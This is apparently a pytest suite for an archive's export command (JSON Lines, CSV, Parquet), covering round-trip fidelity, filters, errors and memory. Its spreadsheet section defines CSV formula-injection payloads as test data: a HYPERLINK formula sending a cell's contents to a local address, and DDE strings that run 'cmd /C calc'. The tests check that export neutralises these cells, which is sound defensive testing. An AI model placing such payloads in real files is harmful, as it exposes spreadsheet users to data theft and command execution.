"""`union-archive export` (JSON Lines, CSV, Parquet) over real archives.

The export of a real crawl of the zoo reads back equal to its archive.db in every format,
with the WARC-Record-IDs warcio reads from the WARC files; the filters select what SQL
selects; the citation is the document page's; bad input is a one-line error and leaves no
file; CSV text cells a spreadsheet would run as formulas begin with a quote (--raw-csv: as
archived); a generated archive of 20,000 documents is exported in flat memory (peak RSS of the
export process, compared with exporting 4,000 of them)."""

from __future__ import annotations

import csv
import gzip
import io
import json
import sqlite3
import subprocess
import sys
from pathlib import Path

import markupsafe
import pytest
from warcio.archiveiterator import ArchiveIterator
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from archive.publish import citation
from archive.publish.export import DEFAULTS, export_columns
from archive.store import schema as store
from tests.conftest import run_cli
from tests.fixtures_archive import WARC_NAME, add_document, build_archive

BASE = "https://archive.example.org/union"
REPLAY = "https://replay.example.org/union/"
FORMATS = {
    "jsonl": "docs.jsonl",
    "csv": "docs.csv",
    "parquet": "docs.parquet",
    "jsonl.gz": "docs.jsonl.gz",
    "csv.gz": "docs.csv.gz",
}


def run_export(data, *args, timeout=600):
    return run_cli("export", "--data", str(data), *args, timeout=timeout)


def archive_rows(db_path, where: str = "", params=()) -> list[dict]:
    conn = sqlite3.connect(db_path)
    conn.row_factory = sqlite3.Row
    try:
        return [
            dict(r) for r in conn.execute(f"select * from documents {where} order by id", params)
        ]
    finally:
        conn.close()


def warc_record_ids(data: Path) -> dict[tuple[str, int], str]:
    """(file name, offset) -> WARC-Record-ID of every record, read with warcio."""
    ids = {}
    for path in sorted((data / "warc").glob("*.warc.gz")):
        with open(path, "rb") as fh:
            it = ArchiveIterator(fh)
            for rec in it:
                ids[(path.name, it.get_record_offset())] = rec.rec_headers.get_header(
                    "WARC-Record-ID"
                )
    return ids


def read_back(path: Path) -> list[dict]:
    name = path.name
    if name.endswith(".parquet"):
        import pyarrow.parquet as pq

        return pq.read_table(path).to_pylist()
    raw = gzip.decompress(path.read_bytes()) if name.endswith(".gz") else path.read_bytes()
    if ".csv" in name:
        assert raw.startswith(b"\xef\xbb\xbf")  # the byte-order mark spreadsheets need
        return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    return [json.loads(line) for line in raw.decode("utf-8").splitlines()]


def as_csv(value) -> str:
    return "" if value is None else str(value)


@pytest.fixture(scope="module")
def exported(crawled, tmp_path_factory):
    assert crawled.proc.returncode == 0, crawled.proc.stderr[-3000:]
    out = tmp_path_factory.mktemp("export")
    for _fmt, name in FORMATS.items():
        proc = run_export(
            crawled.data, "-o", str(out / name), "--base-url", BASE, "--replay-url", REPLAY
        )
        assert proc.returncode == 0, proc.stderr
        assert proc.stdout == ""
        assert "exported" in proc.stderr and "warning" not in proc.stderr, proc.stderr
    return out


@pytest.mark.parametrize("fmt", list(FORMATS))
def test_export_reads_back_equal_to_the_archive(crawled, exported, fmt):
    rows = read_back(exported / FORMATS[fmt])
    expected = archive_rows(crawled.data / "archive.db")
    assert len(expected) > 20
    assert [r["id"] for r in rows] == [e["id"] for e in expected]
    assert list(rows[0]) == list(export_columns())
    assert list(export_columns())[: len(store.DOCUMENT_COLUMNS)] == list(store.DOCUMENT_COLUMNS)
    ids = warc_record_ids(crawled.data)
    for row, doc in zip(rows, expected):
        record = f"{BASE}/-/record/{doc['id']}"
        stamp = "".join(c for c in doc["captured_at"] if c.isdigit())
        extra = {
            "warc_record_id": ids[(doc["warc_filename"], doc["warc_offset"])],
            "record_url": record,
            "replay_url": f"{REPLAY}{stamp}/{doc['url']}",
            "citation": citation.gbt7714(doc, record),
        }
        assert extra["warc_record_id"].startswith("<urn:uuid:") and len(stamp) == 14
        want = {**{c: doc[c] for c in store.DOCUMENT_COLUMNS}, **extra}
        if fmt.startswith("csv"):
            want = {k: as_csv(v) for k, v in want.items()}
        assert row == want, doc["id"]


def test_export_filters_select_what_sql_selects(crawled, tmp_path):
    db = crawled.data / "archive.db"
    everything = archive_rows(db)
    sites = sorted({d["site"] for d in everything})
    moments = sorted({d["captured_at"] for d in everything})
    middle = moments[len(moments) // 2]

    def ids(*args):
        out = tmp_path / "f.jsonl"
        proc = run_export(crawled.data, "-o", str(out), *args)
        assert proc.returncode == 0, proc.stderr
        return [r["id"] for r in read_back(out)]

    def sql(where, params=()):
        return [d["id"] for d in archive_rows(db, where, params)]

    assert ids("--reports-only") == sql("where is_report = 1") != []
    assert ids("--site", sites[0]) == sql("where site = ?", [sites[0]]) != []
    assert ids("--site", sites[0], "--site", sites[1]) == sql("where site in (?, ?)", sites[:2])
    host = sites[0].split(":")[0]  # a bare host: every port of it
    assert ids("--site", host) == sql("where site = ? or site like ?", [host, host + ":%"])
    assert ids("--site", "no-such-host.example") == []
    assert ids("--since", middle) == sql("where captured_at >= ?", [middle]) != []
    assert ids("--since", moments[0][:10]) == sql("")
    assert ids("--since", "2999-01-01") == []
    assert ids("--reports-only", "--site", sites[0], "--since", middle) == sql(
        "where is_report = 1 and site = ? and captured_at >= ?", [sites[0], middle]
    )


def test_export_to_stdout(tmp_path):
    arch = build_archive(tmp_path)
    proc = run_export(arch.root, "-o", "-", "--reports-only")
    assert proc.returncode == 0, proc.stderr
    rows = [json.loads(line) for line in proc.stdout.splitlines()]
    assert sorted(r["id"] for r in rows) == sorted(
        d["id"] for d in arch.docs.values() if d["is_report"]
    )
    proc = run_export(arch.root, "-o", "-", "--format", "csv")
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout.removeprefix("\ufeff"))))
    assert len(rows) == len(arch.docs)


def test_export_carries_the_page_citation(tmp_path):
    import asyncio

    from archive.publish.serve import make_datasette

    arch = build_archive(tmp_path)
    out = tmp_path / "docs.jsonl"
    assert run_export(arch.root, "-o", str(out), "--base-url", "http://localhost").returncode == 0
    ds = make_datasette(arch.root)
    for row in read_back(out):
        html = asyncio.run(ds.client.get(f"/archive/documents/{row['id']}")).text
        assert f">{markupsafe.escape(row['citation'])}</p>" in html, row["id"]
        assert f'href="{row["record_url"]}"' in html


def test_bad_input_is_a_one_line_error_and_writes_nothing(tmp_path):
    arch = build_archive(tmp_path / "a")
    cases = [
        (["--data", str(tmp_path / "none"), "-o", str(tmp_path / "x.jsonl")], "not found"),
        (["-o", str(tmp_path / "x.txt")], "cannot tell the format"),
        (["-o", "-", "--format", "parquet"], "Parquet is written to a file"),
        (["-o", str(tmp_path / "x.parquet.gz")], "Parquet is written to a file"),
        (["-o", str(tmp_path / "x.jsonl"), "--since", "last week"], "--since"),
        (["-o", str(tmp_path / "x.jsonl"), "--since", "2026-13-01"], "--since"),
        (["-o", str(tmp_path / "x.jsonl"), "--base-url", "archive.example.org"], "--base-url"),
        (["-o", str(tmp_path / "no-dir" / "x.jsonl")], "cannot write"),
    ]
    for args, message in cases:
        if args[0] != "--data":
            args = ["--data", str(arch.root), *args]
        proc = run_cli("export", *args, timeout=120)
        assert proc.returncode == 2, (args, proc.stderr)
        lines = proc.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("union-archive: error:"), (args, lines)
        assert message in lines[0], (args, lines)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a"]


def test_a_value_parquet_cannot_hold_is_named_and_leaves_no_file(tmp_path):
    arch = build_archive(tmp_path / "a")
    doc = arch.doc("books")
    with sqlite3.connect(arch.db_path) as conn:
        conn.execute("update documents set year = 'unknown' where id = ?", [doc["id"]])
    proc = run_export(arch.root, "-o", str(tmp_path / "docs.parquet"))
    assert proc.returncode == 2
    assert f"document {doc['id']}: year = 'unknown' is not int" in proc.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a"]
    proc = run_export(arch.root, "-o", str(tmp_path / "docs.jsonl"))  # JSON holds it
    assert proc.returncode == 0, proc.stderr
    assert {r["id"]: r["year"] for r in read_back(tmp_path / "docs.jsonl")}[doc["id"]] == "unknown"


def test_a_missing_warc_file_leaves_only_its_record_ids_empty(tmp_path):
    arch = build_archive(tmp_path)
    arch.warc_path.rename(tmp_path / "elsewhere.warc.gz")
    (arch.warc_dir / (WARC_NAME + ".open")).unlink(missing_ok=True)
    out = tmp_path / "docs.jsonl"
    proc = run_export(arch.root, "-o", str(out))
    assert proc.returncode == 0, proc.stderr
    assert (
        f"warning: the WARC record of {len(arch.docs)} documents could not be read" in proc.stderr
    ) and WARC_NAME in proc.stderr
    rows = read_back(out)
    assert len(rows) == len(arch.docs)
    for row in rows:
        doc = next(d for d in arch.docs.values() if d["id"] == row["id"])
        assert row["warc_record_id"] is None
        assert {c: row[c] for c in store.DOCUMENT_COLUMNS} == {
            c: doc.get(c) for c in store.DOCUMENT_COLUMNS
        }
        assert row["record_url"] == f"{DEFAULTS['base_url']}/-/record/{doc['id']}"


def test_a_warc_file_still_being_written_is_read(tmp_path):
    arch = build_archive(tmp_path)
    arch.warc_path.rename(arch.warc_dir / (WARC_NAME + ".open"))
    out = tmp_path / "docs.jsonl"
    proc = run_export(arch.root, "-o", str(out))
    assert proc.returncode == 0 and "warning" not in proc.stderr, proc.stderr
    assert all(r["warc_record_id"].startswith("<urn:uuid:") for r in read_back(out))


# ------------------------------------------------------------------ spreadsheets

# text cells a spreadsheet runs as formulas, as a hostile page could put them in the archive
FORMULAS = {
    "title": '=HYPERLINK("http://127.0.0.1:9/?"&A1,"详情")',
    "text": "@SUM(1+1)*cmd|' /C calc'!A0\n第二段",
    "doc_number": "-2+3+cmd|' /C calc'!A0",
    "org": "+1+1",
    "addressee": "\t=1+1",
    "issuer": "\r=1+1",
    "region": "\uff1d1+1",  # a full-width equals sign
}
# cells that stay as they are: numbers (also in text columns), dates, a quote already there
KEPT = {
    "year": -12,
    "report_score": -0.5,
    "placeholders": "-12",
    "issued_date": "2026-11-21",
    "script": "'=1+1",
}


def hostile_archive(root: Path) -> tuple[Path, str]:
    """A real archive (build_archive) with one document carrying FORMULAS and KEPT."""
    arch = build_archive(root)
    doc = add_document(arch.db_path, "hostile", FORMULAS["title"], FORMULAS["text"])
    values = {**FORMULAS, **KEPT}
    with sqlite3.connect(arch.db_path) as conn:
        conn.execute(
            "update documents set " + ", ".join(f"{c} = ?" for c in values) + " where id = ?",
            [*values.values(), doc["id"]],
        )
    return arch.root, doc["id"]


def test_csv_cells_a_spreadsheet_would_run_begin_with_a_quote(tmp_path):
    data, hostile = hostile_archive(tmp_path / "a")
    proc = run_export(data, "-o", str(tmp_path / "docs.jsonl"))
    assert proc.returncode == 0, proc.stderr
    archived = {r["id"]: r for r in read_back(tmp_path / "docs.jsonl")}
    assert {c: archived[hostile][c] for c in {**FORMULAS, **KEPT}} == {**FORMULAS, **KEPT}
    proc = run_export(data, "-o", str(tmp_path / "docs.csv"))
    assert proc.returncode == 0, proc.stderr
    rows = read_back(tmp_path / "docs.csv")
    assert len(rows) == len(archived) > 5
    for row in rows:
        want = {c: as_csv(v) for c, v in archived[row["id"]].items()}
        if row["id"] == hostile:
            want.update({c: "'" + v for c, v in FORMULAS.items()})
            want["citation"] = "'" + archived[hostile]["citation"]
            assert want["citation"].startswith("'+1+1. ") and want["year"] == "-12"
        assert row == want, row["id"]
    # the hostile cells and the citation, which starts with the org
    assert "(csv; 8 text cells that a spreadsheet would run as formulas begin with ')" in (
        proc.stderr
    )


def test_raw_csv_writes_the_archived_values(tmp_path):
    data, hostile = hostile_archive(tmp_path / "a")
    out = tmp_path / "docs.csv.gz"
    proc = run_export(data, "-o", str(out), "--raw-csv")
    assert proc.returncode == 0, proc.stderr
    assert "(csv; cells as archived (--raw-csv): formulas are not neutralised)" in proc.stderr
    row = next(r for r in read_back(out) if r["id"] == hostile)
    assert {c: row[c] for c in FORMULAS} == FORMULAS
    assert {c: row[c] for c in KEPT} == {c: str(v) for c, v in KEPT.items()}
    assert row["citation"].startswith("+1+1. ")


# ------------------------------------------------------------------ memory

DOCS = 20_000
SMALL_SITE, LARGE_SITE = "a.example.org", "b.example.org"
PARAGRAPH = "各级工会组织深入学习贯彻会议精神，推进职工之家建设，开展劳动竞赛和技能培训。"


def generated_archive(root: Path) -> Path:
    """DOCS documents of ~1,500 characters, 1 in 5 on SMALL_SITE, pointing at 50 real WARC
    records."""
    (root / "warc").mkdir(parents=True)
    locations = []
    with open(root / "warc" / WARC_NAME, "wb") as fh:
        writer = WARCWriter(fh, gzip=True)
        for i in range(50):
            body = f"<html><body><p>{PARAGRAPH}</p></body></html>".encode()
            headers = StatusAndHeaders(
                "200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1"
            )
            offset = fh.tell()
            writer.write_record(
                writer.create_warc_record(
                    f"http://{LARGE_SITE}/{i}.html",
                    "response",
                    payload=io.BytesIO(body),
                    http_headers=headers,
                )
            )
            locations.append((offset, fh.tell() - offset))
    db = store.connect(root / "archive.db")

    def rows():
        for i in range(DOCS):
            site = SMALL_SITE if i % 5 == 0 else LARGE_SITE
            url = f"http://{site}/doc/{i}.html"
            offset, length = locations[i % 50]
            yield dict(
                id=store.document_id(url),
                url=url,
                part=0,
                site=site,
                title=f"第{i}号 工会工作报告",
                text=f"{i}\n" + PARAGRAPH * 40,
                published_date="2021-05-01",
                year=2021,
                org="某市总工会",
                is_report=1,
                report_score=0.9,
                warc_filename=WARC_NAME,
                warc_offset=offset,
                warc_length=length,
                captured_at="2026-11-21T00:00:00Z",
                crawl_id="c1",
            )

    db["documents"].insert_all(rows(), batch_size=1000)
    db.conn.close()
    return root


# VmHWM is this process's own peak: ru_maxrss keeps the parent's across fork and exec
PEAK_RSS = """
import re, sys
from cli.main import main
try:
    main(sys.argv[1:])
except SystemExit as exc:
    if exc.code:
        raise
print(re.search(r"VmHWM:\\s*(\\d+) kB", open("/proc/self/status").read()).group(1))
"""


def peak_rss_kb(data: Path, *args) -> int:
    proc = subprocess.run(
        [sys.executable, "-c", PEAK_RSS, "export", "--data", str(data), *args],
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert proc.returncode == 0, proc.stderr
    assert "warning" not in proc.stderr, proc.stderr
    return int(proc.stdout.split()[-1])


@pytest.fixture(scope="module")
def big(tmp_path_factory):
    return generated_archive(tmp_path_factory.mktemp("big"))


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_export_memory_does_not_grow_with_the_archive(big, tmp_path, fmt):
    # a fifth of them: several Parquet row groups too, as Arrow's allocator keeps a few
    small = peak_rss_kb(big, "-o", str(tmp_path / f"small.{fmt}"), "--site", SMALL_SITE)
    full = peak_rss_kb(big, "-o", str(tmp_path / f"full.{fmt}"))
    rows = read_back(tmp_path / f"full.{fmt}")
    assert len(rows) == DOCS and len(read_back(tmp_path / f"small.{fmt}")) == DOCS // 5
    assert all(r["warc_record_id"] for r in rows[:: DOCS // 50])
    text_mb = sum(len(r["text"]) for r in rows[DOCS // 5 :]) * 2 / 2**20  # as Python holds it
    print(
        f"{fmt}: peak RSS {small / 1024:.0f} MB for {DOCS // 5} documents, "
        f"{full / 1024:.0f} MB for {DOCS} ({text_mb:.0f} MB more text in memory)"
    )
    assert text_mb > 40
    assert full - small < 24 * 1024  # far less than the texts the export went through
